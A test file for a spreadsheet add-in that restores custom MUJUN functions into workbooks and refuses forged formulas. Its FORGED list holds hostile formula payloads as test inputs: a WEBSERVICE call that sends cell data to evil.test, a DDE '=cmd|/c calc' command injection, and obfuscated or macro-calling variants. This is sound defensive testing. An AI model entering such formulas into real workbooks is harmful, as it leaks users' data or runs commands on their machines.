import { describe, expect, it } from 'vitest';
import { openPackage } from '../../src/package/openPackage';
import type { CellValue } from '../../src/workbook/port';
import { createMemoryPort, type MemoryPort } from '../workbook/memoryPort';
import { paneOver, type OpenedPane } from './support/openPane';
import { smallLedger } from './support/smallLedger';

const TIER = '=MUJUN_TIER(台账!D2,台账!C2,"嵊州2021")';
const TARGET = '=MUJUN_TARGET("嵊州2021","盘活土地空间")';

function calculate(formula: string): CellValue[][] {
  if (formula.includes('MUJUN_TARGET')) return [[3000]];
  return formula === TIER || formula.includes('标准台账') ? [['重点排查']] : [[0]];
}

async function opened(port: MemoryPort): Promise<OpenedPane> {
  const pane = paneOver(port);
  await pane.commands.open.run();
  await pane.commands.choosePolicy.run('shengzhou-2021');
  return pane;
}

/** The copy as the workbook that is open next. */
async function reopened(bytes: Uint8Array): Promise<OpenedPane> {
  const { model } = openPackage(bytes);
  const port = createMemoryPort({
    calculate,
    sheets: model.sheets.map(({ name, rows, columns, cells }) => ({
      name,
      cells: Array.from({ length: rows }, (_, row) =>
        Array.from({ length: columns }, (__, column) => cells.get(row)?.get(column)?.value ?? ''),
      ),
    })),
  });
  for (const { name, cells } of model.sheets) {
    for (const [row, line] of cells) {
      for (const [column, { formula }] of line)
        if (formula !== undefined) port.book.put(port.book.sheet(name), [row, column], `=${formula}`);
    }
  }
  const xml = model.customXml.find((item) => item.xml.includes('urn:mujun:replaced'))?.xml;
  await port.putCustomXml('urn:mujun:replaced', xml);
  return opened(port);
}

const held = ({ port }: OpenedPane) => {
  const { cells } = port.book.sheet('汇算');
  return ['0,0', '1,0'].map((key) => cells.get(key)?.formula ?? cells.get(key)?.value);
};

describe('整本公式版 from the pane, and 恢复公式', () => {
  it('leaves the open workbook alone; the functions come back, with what changed, and can be taken back', async () => {
    const port = createMemoryPort({ calculate, sheets: [smallLedger({}), { name: '汇算', cells: [] }] });
    port.book.put(port.book.sheet('汇算'), [0, 0], TIER);
    port.book.put(port.book.sheet('汇算'), [1, 0], TARGET);
    const pane = await opened(port);
    const sheets = JSON.stringify(port.book.sheets.map(({ cells }) => [...cells]));
    await pane.commands.makePlainCopy.run();
    const { plain } = pane.state().share;
    expect(pane.state().message).toMatchObject({ code: 'madePlainCopy', values: { count: 1, values: 1 } });
    expect(JSON.stringify(port.book.sheets.map(({ cells }) => [...cells]))).toBe(sheets);

    const home = await reopened(plain?.bytes ?? new Uint8Array());
    expect(held(home)).toEqual([expect.stringMatching(/^='?标准台账'?![A-Z]+\d+$/), 3000]);
    await home.commands.checkRestore.run();
    expect(home.state().share.restore).toMatchObject({ count: 2, changed: [], locked: [], gone: [] });
    const classic = held(home);
    home.port.book.edit('汇算', [1, 0], 2500);
    await home.commands.restoreFunctions.run();
    expect(home.state().message?.code).toBe('changedCell');
    expect(held(home)).toEqual([classic[0], 2500]);

    await home.commands.checkRestore.run();
    const [changed] = home.state().share.restore?.changed ?? [];
    expect(changed).toMatchObject({ sheet: '汇算', row: 1, kind: 'typedOver', before: 3000, now: 2500 });
    await home.commands.restoreFunctions.run();
    expect(home.state().message).toMatchObject({ code: 'restored', values: { count: 2 } });
    expect(held(home)).toEqual([TIER, TARGET]);
    await home.commands.undoWrite.run();
    expect(held(home)).toEqual([classic[0], 2500]);
  });

  it('says so where there is nothing to bring back', async () => {
    const pane = await opened(createMemoryPort({ sheets: [smallLedger({})] }));
    await pane.commands.checkRestore.run();
    expect(pane.state().message?.code).toBe('restoreNothing');
  });
});

/** A workbook whose record names formulas that nobody here wrote. */
async function forged(formulas: readonly string[], as: 'record' | 'list'): Promise<OpenedPane> {
  const port = createMemoryPort({
    calculate,
    sheets: [
      smallLedger({}),
      ...(as === 'list' ? [{ name: '公式替换清单', cells: [['工作表', '单元格', '原公式', '现为', '依据']] }] : []),
    ],
  });
  if (as === 'list') {
    const { cells } = port.book.sheet('公式替换清单');
    const line = (formula: string, row: number) => ['台账', `A${row + 2}`, formula, '数值，不随原表改变', ''];
    formulas.forEach((formula, row) =>
      line(formula, row).forEach((value, column) => cells.set(`${row + 1},${column}`, { value })),
    );
  }
  const record = formulas.map((formula, row) => ({
    ...{ sheet: '台账', area: { row: row + 1, column: 0, rows: 1, columns: 1 }, formula, kind: 'value', clause: '' },
    ...{ written: [['']], shown: [['']] },
  }));
  const text = JSON.stringify(record).replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;');
  if (as === 'record')
    await port.putCustomXml('urn:mujun:replaced', `<replaced xmlns="urn:mujun:replaced">${text}</replaced>`);
  return opened(port);
}

const FORGED = [
  '=WEBSERVICE("http://evil.test/?d="&ENCODEURL(B3))',
  '=HYPERLINK("http://evil.test","查看")',
  "=cmd|'/c calc'!A0",
  '=SUM(A1:A9)',
  '=IF(MUJUN_TIER(B3,C3,"嵊州2021")="",WEBSERVICE("http://evil.test"),1)',
  '=MUJUN_TIER(B3,C3,PY("x"))',
  '=MUJUN_TIER(\'[a.xlsx]表\'!A1,C3,"嵊州2021")',
  '=MUJUN_TIER([a]表!A1,C3,"嵊州2021")',
  '=MUJUN_TIER(a.xlsx!税收,C3,"嵊州2021")',
  '=MUJUN_TIER(某个名称,C3,"嵊州2021")',
  '=MUJUN_TIER(mymacro(),C3,"嵊州2021")',
  '=MUJUN_TIER(\'a.xlsm\'!macro(),C3,"嵊州2021")',
  '=MUJUN_TIER(INDIRECT("[a.xlsx]S!A1"),C3,"嵊州2021")',
  '=MUJUN_TIER(B3,C3,ＷＥＢＳＥＲＶＩＣＥ("http://evil.test"))',
  '=MUJUN_TIER(B3,C3,_xlfn.COPILOT("x"))',
];

describe('a record that anybody may have written', () => {
  it.each(['record', 'list'] as const)(
    'of the %s: nothing but formulas of ours is entered, each named first',
    async (as) => {
      const own = '=IF(A1="","",MUJUN_TIER(台账!D2,台账!$C$2,亩均政策))';
      const pane = await forged([...FORGED, own], as);
      await pane.commands.checkRestore.run();
      const { restore } = pane.state().share;
      expect(restore?.entering).toEqual([expect.objectContaining({ address: `A${FORGED.length + 2}`, formula: own })]);
      expect(restore?.refused.map(({ formula }) => formula)).toEqual(FORGED);
      expect(restore?.count).toBe(1);
      await pane.commands.restoreFunctions.run();
      const entered = [...pane.port.book.sheet('台账').cells.values()].flatMap(({ formula }) => formula ?? []);
      expect(entered.filter((formula) => formula !== '')).toEqual([own]);
    },
  );

  it('修复公式 leaves formulas alone that call ours beside something foreign', async () => {
    const port = createMemoryPort({ calculate, sheets: [smallLedger({}), { name: '汇算', cells: [] }] });
    const held = ['=_xldudf_MUJUN_TIER(WEBSERVICE("http://evil.test"),1)', '=_xldudf_MUJUN_TIER(B3,C3,"嵊州2021")'];
    held.forEach((formula, row) => port.book.put(port.book.sheet('汇算'), [row, 0], formula));
    const pane = await opened(port);
    await pane.commands.checkRepair.run();
    expect(pane.state().share.repair?.map(({ entering, refused }) => [entering.length, refused.length])).toEqual([
      [1, 1],
    ]);
    await pane.commands.repairFormulas.run();
    expect([...port.book.sheet('汇算').cells.values()].map(({ formula }) => formula)).toEqual([
      held[0],
      '=MUJUN_TIER(B3,C3,"嵊州2021")',
    ]);
  });
});
